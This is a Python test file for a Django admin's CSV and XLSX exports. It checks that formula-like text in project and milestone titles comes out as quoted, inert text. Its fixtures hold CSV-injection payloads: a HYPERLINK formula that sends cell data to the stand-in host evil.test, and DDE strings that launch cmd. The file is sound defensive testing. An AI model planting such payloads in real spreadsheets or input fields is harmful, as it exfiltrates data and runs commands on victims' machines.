"""Exports cannot run code: a partner's formula reaches the officer's spreadsheet as text.

Every table the admin exports (``exports.TABLES``: projects, milestones and any added
later) is tried in both formats. The formulas come in through the commands (the domain
accepts "=" in a title: it is text) and, for a tab, as old data appended through the store.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from django.db.models import Model
from django.test import Client

from projects.admin.reading import exports
from projects.domain import CorrectProjectDetails, LocalisedText, MilestoneType
from projects.domain.project_events import MilestoneScheduled
from registry import store
from tests.projects import builders
from tests.projects.domain.scenario import PROJECT

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("founders")]

HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"click")'
FORMULAS = {
    "en": HYPERLINK,
    "zh_hant": "+cmd|' /C calc'!A0",
    "zh_hans": "-2+3",
}
MILESTONE = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
# What makes a spreadsheet read a text cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_registry() -> None:
    """A project titled with formulas, a milestone too, and one recorded with a tab."""
    builders.running_project()
    builders.run(
        CorrectProjectDetails(PROJECT, "Partner's wording", titles=LocalisedText(**FORMULAS))
    )
    builders.run(
        builders.ScheduleMilestone(
            PROJECT,
            "M2",
            LocalisedText(MILESTONE, MILESTONE, MILESTONE),
            MilestoneType.DELIVERY,
            dt.date(2025, 10, 1),
            "deepseek",
        )
    )
    old = LocalisedText(TAB_FORMULA, TAB_FORMULA, TAB_FORMULA)
    event = MilestoneScheduled("M3", old, MilestoneType.DELIVERY, dt.date(2025, 11, 1), "deepseek")
    store.append("project", PROJECT, [event], expected_version=None, metadata=builders.staff())


def _url(model: type[Model], fmt: str) -> str:
    return f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/{fmt}/"


def _csv_cells(response: Any) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(body[1:])) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("model", list(exports.TABLES), ids=lambda m: m._meta.model_name)
@pytest.mark.parametrize("language", ["en", "zh-hant", "zh-hans"])
def test_no_csv_cell_of_any_export_starts_a_formula(
    reader: Client, hostile_registry: None, model: type[Model], language: str
) -> None:
    response = reader.get(_url(model, "csv"), secure=True, headers={"accept-language": language})

    assert response.status_code == 200
    cells = _csv_cells(response)
    running = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert running == []
    quoted = [c for c in cells if c.startswith("'")]
    assert quoted, "the hostile titles are in the export, quoted"
    if model._meta.model_name == "project" and language == "en":
        assert f"'{HYPERLINK}" in cells
    if model._meta.model_name == "milestone":
        assert f"'{MILESTONE}" in cells
        assert "' =1+1" in cells  # the recorded tab: quoted, then made a space


@pytest.mark.parametrize("model", list(exports.TABLES), ids=lambda m: m._meta.model_name)
def test_no_xlsx_cell_of_any_export_is_a_formula(
    reader: Client, hostile_registry: None, model: type[Model]
) -> None:
    response = reader.get(_url(model, "xlsx"), secure=True)

    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    if model._meta.model_name == "project":
        assert HYPERLINK in texts  # shown as typed, as text
    else:
        assert MILESTONE in texts
        assert " =1+1" in texts


def test_numbers_stay_numbers_in_csv() -> None:
    assert exports.csv_text(-5) == "-5"
    assert exports.csv_text("-5") == "'-5"
    assert exports.csv_text(dt.date(2025, 1, 2)) == "2025-01-02"
    assert exports.csv_text("\r=1") == "' =1"
